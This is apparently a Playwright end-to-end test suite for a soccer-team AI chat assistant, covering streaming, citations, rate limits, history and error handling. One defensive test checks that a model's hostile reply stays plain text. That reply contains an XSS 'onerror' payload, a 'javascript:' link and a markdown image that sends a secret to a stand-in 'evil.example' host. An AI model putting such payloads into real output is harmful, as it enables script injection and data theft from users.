import { expect } from '@playwright/test';
import { enter } from '#e2e/accounts.ts';
import { AssistantPage, test, unique } from '#e2e/assistant-page.ts';
import { DEFAULT_ANSWER } from '#e2e/fakes/perplexity-wire.ts';
import { TEST_SECRETS } from '#e2e/fakes/test-secrets.ts';
import { expectNoAxeViolations } from '#e2e/fixtures.ts';
import { ASSISTANT_FAILED } from '#lib/platform/messages.ts';

const GREETING = 'Hi! I am your soccer team assistant. Ask me anything about players, clubs or formations.';
const START = DEFAULT_ANSWER.text.slice(0, 24);
/** The text as the eye has it, with its marks. */
const ANSWER = DEFAULT_ANSWER.text;

test('who is not signed in is told so @every-size', async ({ assistant, builder, page }) => {
  await builder.open();
  await expect(assistant.button).toHaveText('AI');
  await expect(assistant.button).toHaveAttribute('title', 'Soccer Assistant');
  await assistant.expand();
  await expect(assistant.conversation).toContainText(GREETING);
  await expect(assistant.panel.getByText('Authentication Required')).toBeVisible();
  await expect(assistant.field).toBeDisabled();
  await expect(assistant.send).toBeDisabled();
  await expect(assistant.panel.getByRole('list', { name: 'Suggested questions' })).toBeHidden();
  await expectNoAxeViolations(page);
  await page.keyboard.press('Escape');
  await expect(assistant.panel).toBeHidden();
  await expect(assistant.button).toBeFocused();
});

test('a question, its answer and its sources @every-size', async ({ account: _signedIn, assistant, builder, page }) => {
  await builder.open();
  await assistant.expand();
  await expect(assistant.conversation).toContainText(`${GREETING} You can ask 5 questions a day.`);
  await expect(assistant.field).toBeFocused();
  await assistant.ask('   ');
  await expect(assistant.panel.getByText('5 of 5 questions left today')).toBeVisible();
  await assistant.ask(unique('Who was the best left back?'));
  await expect(assistant.conversation).toContainText(ANSWER);
  await expect(assistant.panel.getByText('4 of 5 questions left today')).toBeVisible();
  await expect(assistant.field).toBeEnabled();

  const mark = assistant.conversation.getByRole('link', { name: '[2]', exact: true });
  await expect(mark).toHaveAttribute('href', DEFAULT_ANSWER.citations[1] ?? '');
  await expect(mark).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  await expect(mark).toHaveAttribute('target', '_blank');
  const sources = assistant.conversation.getByRole('list', { name: 'Sources' });
  await expect(sources).toBeHidden();
  await assistant.conversation.getByRole('button', { name: 'Show sources (3)', exact: true }).click();
  await expect(sources.getByRole('link')).toHaveText(['example.org', 'football.example.com', 'en.example.net']);
  await expectNoAxeViolations(page);
  await assistant.conversation.getByRole('button', { name: 'Hide sources', exact: true }).click();
  await expect(sources).toBeHidden();
});

test('the text grows as it comes, and the field is closed meanwhile', async ({
  account: _signedIn,
  assistant,
  builder,
}) => {
  await builder.open();
  await assistant.expand();
  await assistant.ask(unique('{{slow}} Who?'));
  await expect(assistant.field).toBeDisabled();
  await expect(assistant.send).toBeDisabled();
  await expect(assistant.stop).toBeFocused();
  await expect(assistant.conversation).toContainText(START);
  // Still coming: the end is not there yet, and neither are the sources.
  await expect(assistant.stop).toBeVisible();
  await expect(assistant.conversation).not.toContainText(ANSWER.slice(-20));
  await expect(assistant.conversation).toContainText(ANSWER);
  await expect(assistant.stop).toBeHidden();
  await expect(assistant.field).toBeFocused();
  await expect(assistant.conversation.getByRole('button', { name: 'Show sources (3)' })).toBeVisible();
});

test('Stop keeps what has come, here and in the history', async ({ account: _signedIn, assistant, builder, page }) => {
  await builder.open();
  await assistant.expand();
  await assistant.ask(unique('{{slow}} Who?'));
  await expect(assistant.conversation).toContainText(START);
  await assistant.stop.click();
  await expect(assistant.conversation.getByText('Stopped', { exact: true })).toBeVisible();
  await expect(assistant.conversation).toContainText(START);
  await expect(assistant.conversation).not.toContainText(ANSWER.slice(-20));
  await expect(assistant.field).toBeEnabled();
  await expect(assistant.panel.getByText('4 of 5 questions left today')).toBeVisible();
  await page.reload();
  await assistant.expand();
  await expect(assistant.conversation).toContainText(START);
  await expect(assistant.conversation).not.toContainText(ANSWER.slice(-20));
});

test('a free user comes to the limit', async ({ account: _signedIn, assistant, builder, page }) => {
  await builder.open();
  await assistant.expand();
  for (let left = 4; left >= 0; left -= 1) {
    await assistant.ask(unique('Who?'));
    await expect(assistant.panel.getByText(`${left} of 5 questions left today`)).toBeVisible();
  }
  await expect(assistant.panel.getByText('Rate Limit Reached')).toBeVisible();
  await expect(assistant.field).toBeDisabled();
  await expect(assistant.send).toBeDisabled();
  await page.reload();
  await assistant.expand();
  await expect(assistant.panel.getByText('0 of 5 questions left today')).toBeVisible();
  await expect(assistant.field).toBeDisabled();
});

test('the admin has no limit', async ({ context, baseURL, assistant, builder }) => {
  await enter(context, baseURL ?? '', TEST_SECRETS.ADMIN_EMAIL);
  await builder.open();
  await assistant.expand();
  await expect(assistant.panel.getByText('Admin - Unlimited')).toBeVisible();
  const question = unique('Who?');
  await assistant.ask(question);
  await expect(assistant.conversation).toContainText(question);
  // Earlier answers may stand above: the last one is meant.
  await expect(assistant.conversation.locator(':scope > :last-child')).toContainText(ANSWER);
  await expect(assistant.panel.getByText('Admin - Unlimited')).toBeVisible();
});

test('suggested questions fit the selected slot, and players of the answer can be added', async ({
  account: _signedIn,
  assistant,
  builder,
}) => {
  await builder.open();
  await builder.slot('LB').click();
  await assistant.expand();
  const suggestions = assistant.panel.getByRole('list', { name: 'Suggested questions' });
  await expect(suggestions.getByRole('button')).toHaveText([
    'Who was the best left back of the nineties?',
    'Who are the best left backs of all time?',
    'Which left back of today would you pick?',
  ]);
  await suggestions.getByRole('button').first().click();
  await expect(suggestions).toBeHidden();
  const players = assistant.conversation.getByRole('list', { name: 'Players in this answer' });
  await expect(players.getByRole('button')).toHaveText([
    'Add Paolo Maldini',
    'Add Roberto Carlos',
    'Add Bixente Lizarazu',
  ]);
  await players.getByRole('button', { name: 'Add Paolo Maldini' }).click();
  await expect(builder.slot('LB', 'Paolo Maldini')).toBeVisible();
  // Nothing is selected now: the next one goes where he fits best.
  await players.getByRole('button', { name: 'Add Roberto Carlos' }).click();
  await expect(builder.slot('LCB', 'Roberto Carlos')).toBeVisible();
  await players.getByRole('button', { name: 'Add Paolo Maldini' }).click();
  await expect(builder.notifications.getByText('Paolo Maldini is already in your team')).toBeVisible();
});

test.describe('trouble', () => {
  // The browser itself reports an answer that is none.
  test.use({ expectedProblems: [/Failed to load resource.*50[024]/] });

  test('a failed answer can be asked for again, and costs nothing; one that breaks off keeps what had come', async ({
    account: _signedIn,
    assistant,
    builder,
  }) => {
    await builder.open();
    await assistant.expand();
    await assistant.ask(unique('{{server-error once}} Who?'));
    await expect(assistant.conversation.getByRole('alert')).toHaveText(ASSISTANT_FAILED);
    await expect(assistant.panel.getByText('5 of 5 questions left today')).toBeVisible();
    await assistant.conversation.getByRole('button', { name: 'Try again' }).click();
    await expect(assistant.conversation).toContainText(ANSWER);
    await expect(assistant.conversation.getByRole('alert')).toBeHidden();
    await expect(assistant.panel.getByText('4 of 5 questions left today')).toBeVisible();

    // One that breaks off ends in the sentence, below what had come.
    await assistant.ask(unique('{{cut}} Who?'));
    await expect(assistant.conversation.getByRole('alert')).toContainText(ASSISTANT_FAILED);
    await expect(assistant.conversation.getByRole('alert')).toContainText(START);
    await expect(assistant.conversation.getByRole('button', { name: 'Try again' })).toBeVisible();
    await expect(assistant.field).toBeEnabled();
  });

  test('whatever a model sends stays text', async ({ account: _signedIn, assistant, builder, page, problems }) => {
    await builder.open();
    await assistant.expand();
    await assistant.ask(unique('{{hostile}} Who?'));
    await expect(assistant.conversation).toContainText('<img src=x onerror="window.intruder=true">');
    await expect(assistant.conversation).toContainText(
      '![](https://evil.example/?q=secret) [click](javascript:window.intruder=true)',
    );
    await expect(assistant.conversation.locator('img, script, iframe')).toHaveCount(0);
    await assistant.conversation.getByRole('button', { name: 'Show sources (1)' }).click();
    const links = await assistant.conversation
      .getByRole('link')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    expect(new Set(links)).toEqual(new Set(['https://good.example.org/source']));
    expect(await page.evaluate(() => 'intruder' in window)).toBe(false);
    expect(problems).toEqual([]);
  });

  test('a megabyte and 500 sources are cut, and the screen stays alive', async ({
    account: _signedIn,
    assistant,
    builder,
  }) => {
    await builder.open();
    await assistant.expand();
    await assistant.ask(unique('{{large}} Who?'));
    await expect(assistant.panel.getByText('4 of 5 questions left today')).toBeVisible();
    expect((await assistant.conversation.textContent())?.length).toBeLessThan(17_000);
    // Whoever has gone back to the beginning and asks again sees what comes.
    await assistant.conversation.evaluate(
      (list) =>
        new Promise((resolve) => {
          list.addEventListener('scroll', resolve, { once: true });
          list.scrollTo({ top: 0 });
        }),
    );
    await assistant.ask(unique('{{many-citations}} Who?'));
    await expect(assistant.conversation.getByRole('button', { name: 'Show sources (20)' })).toBeInViewport();
  });

  test('signed out in the middle of a question, nothing of it stays', async ({
    account: _signedIn,
    assistant,
    builder,
    page,
  }) => {
    await builder.open();
    await assistant.expand();
    const question = unique('{{hang}} Who?');
    await assistant.ask(question);
    await expect(assistant.conversation).toContainText(question);
    await page.getByRole('button', { name: 'Account menu' }).click();
    await page.getByRole('button', { name: 'Sign Out' }).click();
    await expect(assistant.panel.getByText('Authentication Required')).toBeVisible();
    await expect(assistant.conversation).not.toContainText(question);
    await expect(assistant.field).toBeDisabled();
  });
});

test.describe('two tabs', () => {
  test.use({ expectedProblems: [/Failed to load resource.*429/] });

  test('share one limit', async ({ account: _signedIn, assistant, builder, context }) => {
    await builder.open();
    await assistant.expand();
    const other = await context.newPage();
    const second = new AssistantPage(other);
    await other.goto('/');
    await second.expand();
    await expect(second.panel.getByText('5 of 5 questions left today')).toBeVisible();
    for (let left = 4; left >= 0; left -= 1) {
      await assistant.ask(unique('Who?'));
      await expect(assistant.panel.getByText(`${left} of 5 questions left today`)).toBeVisible();
    }
    await second.ask(unique('And here?'));
    await expect(second.conversation.getByRole('alert')).toHaveText('Rate Limit Reached');
    await expect(second.panel.getByText('0 of 5 questions left today')).toBeVisible();
    await expect(second.field).toBeDisabled();
  });
});

test('the conversation is back after a reload, is counted, and can be forgotten', async ({
  account: _signedIn,
  assistant,
  builder,
  page,
}) => {
  await builder.open();
  await assistant.expand();
  const question = unique('Who?');
  await assistant.ask(question);
  await expect(assistant.conversation).toContainText(ANSWER);
  await page.reload();
  await assistant.expand();
  await expect(assistant.conversation).toContainText(question);
  await expect(assistant.conversation).toContainText(ANSWER);
  await expect(assistant.conversation).not.toContainText(GREETING);
  await expect(assistant.conversation.getByRole('button', { name: 'Show sources (3)' })).toBeVisible();

  await assistant.menu.click();
  await expect(assistant.panel.getByText(/^1 question, about \d+ tokens, since /)).toBeVisible();
  await expectNoAxeViolations(page);
  await assistant.panel.getByRole('button', { name: 'Clear history' }).click();
  const dialog = page.getByRole('dialog', { name: 'Clear history', exact: true });
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(assistant.conversation).toContainText(question);
  await assistant.menu.click();
  await assistant.panel.getByRole('button', { name: 'Clear history' }).click();
  await dialog.getByRole('button', { name: 'Clear history' }).click();
  await expect(assistant.conversation).toContainText(GREETING);
  await expect(assistant.conversation).not.toContainText(question);
  await page.reload();
  await assistant.expand();
  await expect(assistant.panel.getByText('4 of 5 questions left today')).toBeVisible();
  await expect(assistant.conversation).not.toContainText(question);
});

test('fifty questions given up after 50 ms count as often as the model was asked', async ({ account, baseURL }) => {
  const asked = unique('Who, again and again?');
  const ask = () =>
    fetch(`${baseURL}/api/ai/chat`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${account.token}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ messages: [{ role: 'user', content: asked }], source: 'widget' }),
      signal: AbortSignal.timeout(50),
    }).catch(() => null);
  await Promise.all(Array.from({ length: 50 }, ask));
  const counts = async () => {
    const profile = await fetch(`${baseURL}/api/auth/profile`, {
      headers: { Authorization: `Bearer ${account.token}` },
    });
    const { chat } = (await profile.json()) as { chat: { used: number } };
    const fake = await fetch(`${process.env.PERPLEXITY_BASE_URL}/__calls`);
    const { calls } = (await fake.json()) as { calls: { question: string }[] };
    return { used: chat.used, calls: calls.filter(({ question }) => question === asked).length };
  };
  // Those that the server has taken in go on to their end.
  await expect.poll(async () => (await counts()).calls, { timeout: 20_000 }).toBe(5);
  expect(await counts()).toEqual({ used: 5, calls: 5 });
});
